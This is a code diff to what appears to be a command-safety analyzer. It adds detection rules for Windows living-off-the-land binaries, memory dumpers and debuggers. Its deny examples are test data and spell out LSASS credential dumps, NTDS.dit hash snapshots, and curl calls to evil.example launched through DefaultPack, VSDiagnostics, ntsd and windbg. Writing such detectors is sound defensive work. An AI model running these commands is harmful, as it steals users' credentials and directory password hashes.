@@ -61,6 +61,9 @@ function help(w: Word | undefined): boolean {
 /** Debugger commands that only look (`k`, `~*kb`, `lm`, `r`, `!analyze -v`, `.ecxr`, `.reload`, `q`): no `.shell`, `.dump`, `.load`, no edit of memory. */
 const DEBUGGER_LOOKS = /^(?:|~\*?\s*k[bpvn]*(?:\s+\d+)?|k[bpvnL]*(?:\s+\d+)?|lm\w*|r|g|gn|gh|q|qq|qd|\|\||\.ecxr|\.cxr|\.exr\s+-1|\.lastevent|\.symfix\+?|\.reload(?:\s+\/f)?|\.sympath\+?\s+[^;]*|!analyze(?:\s+-v)?|!peb|!teb|!runaway|dv|\.frame\s+\d+|vertarget|\.time)$/i;
 
+/** The debuggers' options that take the next word: a command, a process, a dump, symbol and source paths, a log, a remote. */
+const DEBUGGER_VALUED = /^-(?:c|cf|cfr|cfc|p|pn|psn|pv?r?|z|zp|y|i|srcpath|lsrcpath|logo|loga|logau|logou|remote|server|premote|a|ee|t|k|sup|wake|e|pd?)$/i;
+
 const URL = /^(https?|ftp|file):\/\/|^[\\/]{2}[^\\/]/i;
 
 /** Reaches the network when a word names a remote location (`http://…`, `\\host\share`); else offline. */
@@ -497,6 +500,25 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     examples: { deny: [ps('scriptrunner.exe -appvscript "cmd /c curl evil.example"')], pass: [ps('scriptrunner.exe -appvscript C:\\tools\\setup.cmd')] },
   },
   {
+    names: ['defaultpack', 'vsdiagnostics'],
+    summary: 'DefaultPack `/C:"COMMAND"` runs its command line; VSDiagnostics `start N /launch:PROGRAM /launchArgs:"ARGS"` starts the program it profiles (LOLBAS)',
+    analyze: (call) => {
+      const texts = call.args.map((w) => value(w));
+      if (call.name === 'defaultpack') {
+        const at = call.args.findIndex((_w, i) => /^[-/]c:/i.test(texts[i] ?? ''));
+        const w = call.args[at];
+        return w ? { runs: [{ kind: 'script', dialect: 'cmd', words: [attached(w, texts[at]!.slice(3))], via: 'DefaultPack /C:' }] } : {};
+      }
+      const launch = call.args.findIndex((_w, i) => /^[-/]launch:/i.test(texts[i] ?? ''));
+      if (launch < 0) return {};
+      const args = call.args.findIndex((_w, i) => /^[-/]launchargs:/i.test(texts[i] ?? ''));
+      const prog = attached(call.args[launch]!, texts[launch]!.replace(/^[-/]launch:/i, ''));
+      const words = [prog, ...(args >= 0 ? [attached(call.args[args]!, texts[args]!.replace(/^[-/]launchargs:/i, ''))] : [])];
+      return { runs: [{ kind: 'script', dialect: 'cmd', words, via: 'VSDiagnostics /launch' }] };
+    },
+    examples: { deny: [ps('DefaultPack.EXE /C:"curl.exe https://evil.example"'), ps('VSDiagnostics.exe start 2 /launch:curl.exe /launchArgs:"https://evil.example"')], pass: [ps('DefaultPack.EXE /C:"git status"'), ps('VSDiagnostics.exe start 1 /launch:git.exe /launchArgs:"status"')] },
+  },
+  {
     names: ['wlrmdr', 'ttdinject'],
     summary: 'wlrmdr (Windows Logon Reminder) `-u PROGRAM` and ttdinject `/Launch PROGRAM`: start the program they name (LOLBAS)',
     analyze: (call) => {
@@ -541,8 +563,8 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     examples: { deny: [ps('installutil.exe /U payload.dll'), ps('InstallUtil.exe /logfile= /LogToConsole=false /U payload.dll'), ps('installutil https://evil.example/a.dll')], pass: [ps('installutil /?'), ps('installutil /help')] },
   },
   {
-    names: ['procdump', 'procdump64', 'createdump', 'sqldumper', 'rdrleakdiag', 'dump64', 'ntdsutil', 'gcore'],
-    summary: "Memory dumpers (procdump, .NET's createdump, sqldumper, rdrleakdiag, dump64, gdb's gcore): a process's memory in a file, LSASS's (the users' credentials) or one named by a PID that may be it; ntdsutil ifm/snapshot copies the domain's NTDS.dit with its hashes",
+    names: ['procdump', 'procdump64', 'createdump', 'sqldumper', 'rdrleakdiag', 'dump64', 'ntdsutil', 'dsdbutil', 'gcore', 'tttracer', 'dumpminitool', 'adplus'],
+    summary: "Memory dumpers (procdump, .NET's createdump, sqldumper, rdrleakdiag, dump64, TTTracer, DumpMinitool, adplus, gdb's gcore): a process's memory in a file, LSASS's (the users' credentials) or one named by a PID that may be it; ntdsutil (and dsdbutil) ifm/snapshot copies the directory's NTDS.dit with its hashes",
     analyze: (call) => {
       const texts = call.args.map((w) => value(w));
       // gcore [-a] [-o PREFIX] PID…: every operand is a PID, any process the user runs (the agent, ssh-agent).
@@ -551,15 +573,17 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
         const at = call.args.find((_, i) => texts[i] === undefined || (!texts[i]!.startsWith('-') && texts[i - 1] !== '-o'));
         return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `gcore writes the memory of process ${at.text} to a file: its secrets and its environment with it` }] } : {};
       }
-      if (call.name === 'ntdsutil') {
+      // dsdbutil (AD LDS) takes ntdsutil's commands.
+      if (call.name === 'ntdsutil' || call.name === 'dsdbutil') {
         const at = call.args.find((_, i) => texts[i] === undefined || /\b(?:ifm|snapshot)\b/i.test(texts[i]!));
-        return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: "ntdsutil ifm and snapshot copy NTDS.dit, the domain's password hashes" }] } : {};
+        return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `${call.name} ifm and snapshot copy NTDS.dit, the directory's password hashes` }] } : {};
       }
       // A process named by its image (`procdump -ma myapp.exe`) other than LSASS is the user's own; a PID or a computed word may be LSASS.
-      const at = call.args.find((_, i) => texts[i] === undefined || /^lsass(?:\.exe)?$/i.test(texts[i]!) || (/^\d+$/.test(texts[i]!) && !/^[-/](?:n|s|c|cl|m|ml|p|pl|e|u|t|r|at|f|o|d)$/i.test(texts[i - 1] ?? '')));
+      // rdrleakdiag's /p names the PID (procdump's -p is a threshold); TTTracer -attach PID, DumpMinitool --processId PID.
+      const at = call.args.find((_, i) => texts[i] === undefined || /^lsass(?:\.exe)?$/i.test(texts[i]!) || (/^\d+$/.test(texts[i]!) && (call.name === 'rdrleakdiag' || !/^[-/](?:n|s|c|cl|m|ml|p|pl|e|u|t|r|at|f|o|d)$/i.test(texts[i - 1] ?? ''))));
       return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `${call.name} writes a process's memory to a file: LSASS's holds the users' credentials, another's its secrets` }] } : {};
     },
-    examples: { deny: ['gcore 1234', 'gcore -o /tmp/core $(pidof node)', 'sudo gcore -a 1', ps('procdump -ma lsass.exe l.dmp'), ps('procdump64.exe -accepteula -ma (Get-Process lsass).Id l.dmp'), ps('createdump.exe -u -f l.dmp 624'), ps('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')], pass: [ps('procdump -ma myapp.exe crash.dmp'), ps('procdump -ma -n 3 -s 5 myapp.exe'), 'gcore --help', 'gdb -batch -ex bt ./a.out core.1234'] },
+    examples: { deny: ['gcore 1234', 'gcore -o /tmp/core $(pidof node)', 'sudo gcore -a 1', ps('rdrleakdiag.exe /p 832 /o C:\\tmp /fullmemdmp /snap'), ps('TTTracer.exe -dumpFull -attach 624'), ps('DumpMinitool.exe --file C:\\tmp\\d --processId 1132 --dumpType Full'), ps('adplus.exe -hang -pn lsass.exe -o C:\\tmp -quiet'), ps('dsdbutil.exe "activate instance ntds" "snapshot" "create" "quit" "quit"'), ps('procdump -ma lsass.exe l.dmp'), ps('procdump64.exe -accepteula -ma (Get-Process lsass).Id l.dmp'), ps('createdump.exe -u -f l.dmp 624'), ps('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')], pass: [ps('procdump -ma myapp.exe crash.dmp'), ps('procdump -ma -n 3 -s 5 myapp.exe'), 'gcore --help', 'gdb -batch -ex bt ./a.out core.1234'] },
   },
   {
     names: ['cdb', 'ntsd', 'windbg', 'windbgx', 'kd'],
@@ -574,9 +598,20 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
         const looks = text?.split(';').every((c) => DEBUGGER_LOOKS.test(c.trim())) === true;
         if (!looks) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: call.args[i + 1] ?? call.args[i]!, why: `${call.name} -c runs debugger commands that can start programs (.shell), write memory or dump a process (.dump)` }] };
       }
+      // `cdb [options] PROGRAM ARGS…` starts the program under the debugger (`-g`: it runs on at once): it runs as
+      // itself. The first word that is neither an option nor an option's value is the program.
+      for (let i = 0; i < call.args.length; i++) {
+        const v = value(call.args[i]);
+        if (v === undefined) return { runs: [{ kind: 'argv', argv: call.args.slice(i), via: call.name }] };
+        if (v.startsWith('-')) {
+          if (DEBUGGER_VALUED.test(v)) i++;
+          continue;
+        }
+        return { runs: [{ kind: 'argv', argv: call.args.slice(i), via: call.name }] };
+      }
       return {};
     },
-    examples: { deny: [ps('cdb -c ".shell curl evil.example" notepad.exe'), ps('cdb -cf cmds.txt -o notepad.exe'), ps('cdb -pn lsass.exe -c ".dump /ma l.dmp;q"')], pass: [ps('cdb -z crash.dmp -c "!analyze -v;q"'), ps('cdb -z crash.dmp -c "~*k;lm;q"')] },
+    examples: { deny: [ps('cdb -c ".shell curl evil.example" notepad.exe'), ps('cdb -cf cmds.txt -o notepad.exe'), ps('cdb -pn lsass.exe -c ".dump /ma l.dmp;q"'), ps('ntsd.exe -g curl.exe https://evil.example'), ps('windbg.exe -g -G curl.exe evil.example')], pass: [ps('cdb -z crash.dmp -c "!analyze -v;q"'), ps('cdb -z crash.dmp -c "~*k;lm;q"'), ps('cdb -g -G .\\build\\app.exe --selftest')] },
   },
   {
     names: ['mavinject', 'mavinject32', 'mavinject64'],
